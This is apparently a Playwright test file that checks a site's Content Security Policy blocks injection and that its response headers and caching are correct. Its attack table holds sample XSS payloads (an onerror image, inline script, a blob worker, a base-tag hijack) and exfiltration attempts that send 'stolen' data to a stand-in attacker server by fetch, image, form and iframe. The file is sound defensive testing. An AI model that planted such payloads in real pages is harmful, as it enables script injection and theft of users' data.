/** What the pages' policy allows and refuses; every other test runs under it too (support/test.ts). */
import { createHash } from 'node:crypto'
import { readFileSync } from 'node:fs'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Page } from '@playwright/test'
import { cacheControl, headersFor, type Inline, policyInHtml } from '../hosting/policy.ts'
import { linkTo } from './support/article.ts'
import { en } from './support/faces.ts'
import { expectNode } from './support/pages.ts'
import { expect, test } from './support/test.ts'

/** What the build put into the pages themselves. */
const inline: Inline = JSON.parse(readFileSync(new URL('../dist/build.json', import.meta.url), 'utf8'))

/** Runs in the page; gets the address of the attacker's server. */
type Attack = (attacker: string) => unknown

/** A page of somebody whom nothing watches, with what the browser had to refuse. */
async function attacked(
  page: Page,
  attack: Attack,
  attacker: string,
): Promise<{ outcome: unknown; refused: string[] }> {
  await page.goto(linkTo(en, 'cert'))
  await expectNode(page, en, 'cert')
  await page.evaluate(() => {
    const refused: string[] = []
    Object.assign(window, { refused })
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
      refused.push(effectiveDirective)
    })
  })
  const outcome = await page.evaluate(attack, attacker).catch((error: Error) => error.message)
  const refused = () => page.evaluate((): string[] => Reflect.get(window, 'refused'))
  await expect.poll(refused).not.toEqual([])
  return { outcome, refused: await refused() }
}

/** What a stranger's text would do, if it came to be more than text. */
const attacks: { readonly [what: string]: { attack: Attack; by: string; outcome?: RegExp } } = {
  'a text as HTML': {
    attack: () => {
      document.body.innerHTML = '<img src="x" onerror="alert(1)">'
    },
    by: 'require-trusted-types-for',
    outcome: /TrustedHTML/,
  },
  'a handler in an attribute': {
    attack: () => document.body.setAttribute('onclick', 'alert(1)'),
    by: 'require-trusted-types-for',
    outcome: /TrustedScript/,
  },
  "a policy of the attacker's own for texts as HTML": {
    attack: () => globalThis.trustedTypes?.createPolicy('theirs', { createScriptURL: (address) => address }),
    by: 'trusted-types',
    outcome: /theirs/,
  },
  'a text as a script': {
    attack: () => document.body.append(Object.assign(document.createElement('script'), { text: 'alert(1)' })),
    by: 'require-trusted-types-for',
    outcome: /TrustedScript/,
  },
  'a worker from a text': {
    attack: () => new Worker(URL.createObjectURL(new Blob(['fetch("/")']))),
    by: 'require-trusted-types-for',
    outcome: /TrustedScriptURL/,
  },
  'a style sheet in the page': {
    attack: () =>
      document.head.append(Object.assign(document.createElement('style'), { textContent: '*{}' })),
    by: 'style-src-elem',
  },
  'a request to another server': {
    attack: (attacker) => fetch(`${attacker}?stolen`),
    by: 'connect-src',
    outcome: /Failed to fetch/,
  },
  'a picture from another server': {
    attack: (attacker) => {
      new Image().src = `${attacker}stolen.png`
    },
    by: 'img-src',
  },
  'a frame': {
    attack: (attacker) =>
      document.body.append(Object.assign(document.createElement('iframe'), { src: attacker })),
    by: 'frame-src',
  },
  'a form that posts': {
    attack: (attacker) => {
      const form = Object.assign(document.createElement('form'), {
        action: attacker,
        method: 'post',
      })
      document.body.append(form)
      form.submit()
    },
    by: 'form-action',
  },
  'another base for addresses': {
    attack: (attacker) => {
      document.head.append(Object.assign(document.createElement('base'), { href: attacker }))
      return document.baseURI
    },
    by: 'base-uri',
    outcome: /localhost/,
  },
}

test('The browser refuses what text of a stranger could try, and asks nobody', async ({
  browser,
  baseURL,
}) => {
  const asked: string[] = []
  const server = createServer(({ url = '' }, response) => {
    asked.push(url)
    response.end()
  }).listen(0, '127.0.0.1')
  await new Promise((resolve) => server.once('listening', resolve))
  // A server that listens on a port has an address with one.
  const attacker = `http://127.0.0.1:${(server.address() as AddressInfo).port}/`
  const context = await browser.newContext({ ...(baseURL && { baseURL }) })
  const page = await context.newPage()
  const said: string[] = []
  page.on('dialog', (dialog) => said.push(dialog.message()))
  for (const [what, { attack, by, outcome }] of Object.entries(attacks)) {
    const met = await attacked(page, attack, attacker)
    expect.soft(met.refused, what).toContain(by)
    if (outcome) expect.soft(String(met.outcome), what).toMatch(outcome)
  }
  await context.close()
  server.close()
  expect([...asked, ...said]).toEqual([])
})

test('No other site can put a page of ours into a frame', async ({ browser, baseURL }) => {
  const server = createServer((_, response) => {
    response.setHeader('Content-Type', 'text/html')
    response.end(`<iframe src="${baseURL}/en/"></iframe>`)
  }).listen(0, '127.0.0.1')
  await new Promise((resolve) => server.once('listening', resolve))
  const page = await (await browser.newContext()).newPage()
  const said: string[] = []
  page.on('console', (message) => said.push(message.text()))
  await page.goto(`http://127.0.0.1:${(server.address() as AddressInfo).port}/`)
  await expect(page.locator('iframe').contentFrame().getByRole('heading', { level: 1 })).toHaveCount(0)
  await expect.poll(() => said.join()).toContain("frame-ancestors 'none'")
  await page.context().close()
  server.close()
})

test('The policy comes with the answer and stands in the page, and the browser has nothing to say to it', async ({
  page,
  request,
}) => {
  const said: string[] = []
  page.on('console', (message) => said.push(message.text()))
  await page.goto('/en/')
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
  expect(said).toEqual([])
  const inPage = page.locator('head > meta[http-equiv="Content-Security-Policy"]')
  // A page names the stylesheets that stand in it, the servers those of all pages.
  const styles = (await page.locator('style').allTextContents()).map(
    (css) => `sha256-${createHash('sha256').update(css).digest('base64')}`,
  )
  expect(inline.styles).toEqual(expect.arrayContaining(styles))
  await expect(inPage).toHaveAttribute('content', policyInHtml({ ...inline, styles }))
  const script = await page.locator('link[rel=modulepreload]').first().getAttribute('href')
  const kept = {
    '/en/': cacheControl.other,
    '/icon.svg': cacheControl.other,
    [`${script}`]: cacheControl.hashed,
  }
  for (const [path, caching] of Object.entries(kept)) {
    const answer = (await request.get(path)).headers()
    for (const [name, value] of Object.entries({ ...headersFor(inline), 'Cache-Control': caching })) {
      expect.soft(answer[name.toLowerCase()], `${name} of ${path}`).toBe(value)
    }
  }
})
